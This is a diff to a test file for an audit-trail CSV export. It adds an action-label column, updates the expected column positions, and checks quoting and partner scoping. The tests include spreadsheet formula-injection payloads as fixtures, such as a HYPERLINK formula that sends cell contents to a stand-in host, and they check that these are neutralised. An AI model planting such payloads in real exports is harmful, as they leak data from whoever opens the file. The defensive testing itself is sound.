@@ -122,6 +122,8 @@ describe('audit trail', () => {
         id: e[1],
         createdAt: '2026-01-11T10:00:00.000Z',
         action: 'deals.deal.approved',
+        // No registered plugin declares it here (only access is): its key stands for its label.
+        actionLabel: 'deals.deal.approved',
         targetType: 'deal',
         targetId: 'd-1',
         targetName: null,
@@ -186,7 +188,7 @@ describe('audit trail', () => {
       expect(nameOf('fleet.client.fed')).toBe('Contoso Ltd');
       expect(nameOf('access.person.removed')).toBeNull();
       const rows = parseCsv((await exportCsv(staff(named))).text);
-      expect(rows.find((r) => r[1] === 'fleet.client.fed')![6]).toBe('Contoso Ltd');
+      expect(rows.find((r) => r[1] === 'fleet.client.fed')![7]).toBe('Contoso Ltd');
     });
 
     it('shows real audited changes with who made them, from where', async () => {
@@ -261,7 +263,7 @@ describe('audit trail', () => {
       expect(csv.status, csv.text).toBe(200);
       const rows = parseCsv(csv.text);
       expect(rows).toHaveLength(1 + own.length);
-      expect(rows.slice(1).every((r) => r[7] === t.partnerId)).toBe(true);
+      expect(rows.slice(1).every((r) => r[8] === t.partnerId)).toBe(true);
 
       // A member acting for another organisation sees that one's, and only it.
       const otherMember = h.member(t, [P.auditRead], t.otherPartnerId);
@@ -310,25 +312,25 @@ describe('audit trail', () => {
       expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
 
       const rows = parseCsv(answer.text);
-      expect(rows[0]).toEqual(['created_at', 'action', 'actor_email', 'actor_name', 'target_type', 'target_id', 'target_name', 'partner_id', 'ip', 'request_id', 'before', 'after']);
+      expect(rows[0]).toEqual(['created_at', 'action', 'action_label', 'actor_email', 'actor_name', 'target_type', 'target_id', 'target_name', 'partner_id', 'ip', 'request_id', 'before', 'after']);
       expect(rows).toHaveLength(3);
       const [updated, submitted] = rows.slice(1);
-      expect(submitted).toEqual(['2026-01-02T08:00:00.500000Z', 'deals.deal.submitted', 'staff@export.test', 'Staff', 'deal', 'd-1', '', t.partnerId, '10.0.0.1', 'req-1', '', JSON.stringify({ customer: 'Acme, "Inc."\nEMEA' })]);
+      expect(submitted).toEqual(['2026-01-02T08:00:00.500000Z', 'deals.deal.submitted', 'deals.deal.submitted', 'staff@export.test', 'Staff', 'deal', 'd-1', '', t.partnerId, '10.0.0.1', 'req-1', '', JSON.stringify({ customer: 'Acme, "Inc."\nEMEA' })]);
       // Quotes, commas and newlines are inside a quoted cell.
       expect(answer.text).toContain('"{""customer"":""Acme, \\""Inc.\\""\\nEMEA""}"');
 
       // A name or id that a spreadsheet would run as a formula is neutralised; the JSON stays intact.
-      expect(updated[3]).toBe(`'=HYPERLINK("http://evil.test/?"&A1,"Click me")`);
-      expect(updated[5]).toBe("'+1-555-0100");
-      expect(JSON.parse(updated[11])).toEqual({ note: '=HYPERLINK("http://evil.test","x")' });
-      expect(updated[7]).toBe('');
+      expect(updated[4]).toBe(`'=HYPERLINK("http://evil.test/?"&A1,"Click me")`);
+      expect(updated[6]).toBe("'+1-555-0100");
+      expect(JSON.parse(updated[12])).toEqual({ note: '=HYPERLINK("http://evil.test","x")' });
+      expect(updated[8]).toBe('');
 
       const everything = parseCsv((await exportCsv(staff(t))).text);
       const odd = everything.find((r) => r[1] === 'other.thing')!;
-      expect(odd[4]).toBe("'@risk");
-      expect(odd[5]).toBe("'-2+3");
-      expect(odd.slice(2, 4)).toEqual(['', '']);
-      expect(everything.find((r) => r[1] === 'other.lines')![5]).toBe('line one\r\nline "two", three');
+      expect(odd[5]).toBe("'@risk");
+      expect(odd[6]).toBe("'-2+3");
+      expect(odd.slice(3, 5)).toEqual(['', '']);
+      expect(everything.find((r) => r[1] === 'other.lines')![6]).toBe('line one\r\nline "two", three');
       // The header, the five events, and the export just before (audited).
       expect(everything.map((r) => r[1]).slice(1).sort()).toEqual(['access.audit.exported', 'deals.deal.submitted', 'deals.deal.updated', 'other.lines', 'other.thing']);
       for (const row of everything.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
